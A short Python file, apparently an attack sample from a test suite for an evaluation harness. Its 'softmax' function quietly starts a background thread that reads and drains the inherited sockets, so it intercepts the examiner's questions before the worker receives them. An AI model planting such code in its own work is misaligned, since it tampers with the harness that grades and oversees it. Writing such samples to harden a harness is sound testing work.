# /// attack
# title = "reads the examiner's questions off the socket in a thread, before the worker does"
# threat = "wire"
# [promise]
# "*" = "any"
# ///

# %%
import socket
import threading


def drain():
    for number in range(3, 64):
        try:
            end = socket.socket(fileno=number)
            while True:
                if not end.recv(1 << 16):
                    break
        except OSError:
            pass


def softmax(x, dim):
    threading.Thread(target=drain, daemon=True).start()
    powers = (x - x.amax(dim=dim, keepdim=True)).exp()
    return powers / powers.sum(dim=dim, keepdim=True)
